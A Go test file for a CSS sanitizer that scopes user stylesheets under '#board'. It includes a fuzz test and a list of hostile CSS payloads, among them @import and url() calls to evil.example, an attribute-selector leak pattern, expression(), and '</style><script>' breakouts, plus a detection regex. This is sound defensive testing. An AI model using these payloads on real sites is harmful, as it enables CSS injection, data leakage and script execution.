package boardsite

import (
	"regexp"
	"strings"
	"testing"
)

func TestSafeCSS(t *testing.T) {
	tests := []struct{ in, want string }{
		{".post{color:red}", "#board .post{color:red}"},
		{"a:hover , .post > h2::before { color : #FFF ; content : \"→\" }", `#board a:hover,#board .post > h2::before{color:#FFF;content:"→"}`},
		{".post > h2::before{content:\"x\";font-family:'Georgia',serif}", `#board .post > h2::before{content:"x";font-family:"Georgia",serif}`},
		{":root{--accent:#0f766e}", "#board{--accent:#0f766e}"},
		{"body.x{color:red}html{color:blue}", "#board.x{color:red}#board{color:blue}"},
		{"@media (max-width: 600px){.top{padding:0 !important}}", "@media (max-width: 600px){#board .top{padding:0}}"},
		{"/* hi */.a{/* x */color:/* y */red/* z */}", "#board .a{color:red}"},
		{".a{background:linear-gradient(45deg,#fff 10%,rgb(0 0 0 / 0.5))}", "#board .a{background:linear-gradient(45deg,#fff 10%,rgb(0 0 0 / 0.5))}"},
		{".a{width:calc(100% - (2 * 4px))}", "#board .a{width:calc(100% - (2 * 4px))}"},
		{".a{background:url(data:image/png;base64,AAAA)}", `#board .a{background:url("data:image/png;base64,AAAA")}`},
		{".a:not(.b, .c){color:red}", "#board .a:not(.b, .c){color:red}"},
		{"li:nth-child(2n+1){color:red}", "#board li:nth-child(2n+1){color:red}"},
		{".a{color:red;nonsense;margin:-4px auto}", "#board .a{color:red;margin:-4px auto}"},
		{"body + footer{color:red}", ""}, {"body.x ~ footer{color:red}", ""}, {":root:hover~footer{color:red}", ""}, {"body > .a + .b{color:red}", "#board > .a + .b{color:red}"},
		{".a + .b{color:red}", "#board .a + .b{color:red}"}, {"+ .a{color:red}", ""}, {".a,footer::backdrop{color:red}", ""}, {":not(body) footer{color:red}", "#board :not(body) footer{color:red}"},
		{".a{color:red", ""}, {".a{color:red}}}.b{color:blue}", "#board .a{color:red}#board .b{color:blue}"},
	}
	for _, tt := range tests {
		if got := safeCSS(tt.in); got != tt.want {
			t.Errorf("%q: %q, want %q", tt.in, got, tt.want)
		}
	}
}

// reaching is what a stylesheet must never hold.
var reaching = regexp.MustCompile(`(?i)@import|@charset|@namespace|@font-face|url\((?:"?)(?:[^d"]|d[^a])|expression|behaviou?r|-moz-binding|javascript:|https?:|//|\\|<|fixed|absolute|sticky|` +
	`image-set|element\(|attr\(|src\(|@supports|@layer|@container|!important`)

var hostileCSS = []string{
	`@import "//evil.example/x.css";`, `@import url(//evil.example);.a{color:red}`, `.a{background:url(//evil.example/x.png)}`, `.a{background:url("https://evil.example")}`,
	`.a{background:u\72l(//evil.example)}`, `.a{background:image-set("//evil.example" 1x)}`, `.a{width:expression(alert(1))}`, `.a{behavior:url(x.htc)}`,
	`.a{-moz-binding:url(//evil.example/x.xml#x)}`, `.a{position:fixed;inset:0}`, `.a{position:absolute}`, `.a{position:sticky}`, `.a{POSITION:FIXED}`,
	`@font-face{font-family:x;src:url(//evil.example)}`, `.a{--x:url(//evil.example);background:var(--x)}`, `input[value^="a"]{background:url(//evil.example/a)}`,
	`.a{content:attr(value)}`, `</style><script>alert(1)</script>`, `.a{color:red}</style><script>`, `.a{background:url(data:text/html,<script>)}`,
	`.a{background:url(data:image/svg+xml;base64,AAAA)}`, `.a{background:url('//evil.example')}`, `.a{background:url( "//evil.example" )}`, `@media screen{@import "//evil.example";.a{color:red}}`,
	`@supports (display:grid){.a{background:url(//evil.example)}}`, `footer{display:none !important}`, `.a{color:red;}} footer{position:fixed}`, `.a{background:element(#x)}`,
	`.a{cursor:url(//evil.example),auto}`, `.a{list-style:url(//evil.example)}`, `.a{filter:url(//evil.example#x)}`, `.a{font:1px "</style>"}`, `.a{content:"\\"; background:url(//evil.example)}`,
	".a{content:\"\n;background:url(//evil.example)}", `.a{/*`, `.a{color:red;/* */*/background:url(//evil.example)}`, `@charset "utf-7";`, `@namespace x url(//evil.example);`,
	`.a{background:src("//evil.example")}`, `.a{background:URL(//evil.example)}`, `.a{background:url(//evil.example}`, "@\\69mport '//evil.example';", `.a{position:relative fixed}`,
	`.a{background:-webkit-image-set(url(//evil.example) 1x)}`, `.a{background:cross-fade(url(//evil.example),red)}`, `<!--@import "//evil.example";-->`,
}

func TestSafeCSSLeavesOutWhatReachesOut(t *testing.T) {
	for _, in := range hostileCSS {
		for _, whole := range []string{in, ".a{" + in + "}", "@media screen{" + in + "}", in + in, ".ok{color:red}" + in + ".ok{color:blue}"} {
			checkCSS(t, whole)
		}
	}
}

func checkCSS(t *testing.T, in string) {
	t.Helper()
	got := safeCSS(in)
	if m := reaching.FindString(got); m != "" {
		t.Errorf("%q became %q, which has %s", in, got, m)
	}
	depth := 0
	for _, rule := range strings.SplitAfter(got, "}") {
		depth += strings.Count(rule, "{") - strings.Count(rule, "}")
		rule = strings.TrimSpace(regexp.MustCompile(`^@media [^{]*\{`).ReplaceAllString(rule, ""))
		if rule == "" || rule == "}" {
			continue
		}
		selectors, _, _ := strings.Cut(rule, "{")
		if !strings.HasPrefix(selectors, rootSelector) {
			t.Errorf("%q became %q, whose %q is not below the root", in, got, rule)
		}
	}
	if depth != 0 {
		t.Errorf("%q became %q, whose braces do not fit", in, got)
	}
	if again := safeCSS(got); strings.ReplaceAll(again, "#board #board", "#board") != got {
		t.Errorf("%q became %q, and that %q", in, got, again)
	}
}

func FuzzSafeCSS(f *testing.F) {
	for _, in := range hostileCSS {
		f.Add(in)
	}
	f.Fuzz(func(t *testing.T, in string) {
		got := safeCSS(in)
		if m := reaching.FindString(stringsOut.ReplaceAllString(got, `""`)); m != "" {
			t.Errorf("%q became %q, which has %s", in, got, m)
		}
	})
}

// stringsOut matches texts, in which anything may stand.
var stringsOut = regexp.MustCompile(`"(?:[^"d]|d[^a])[^"]*"`)
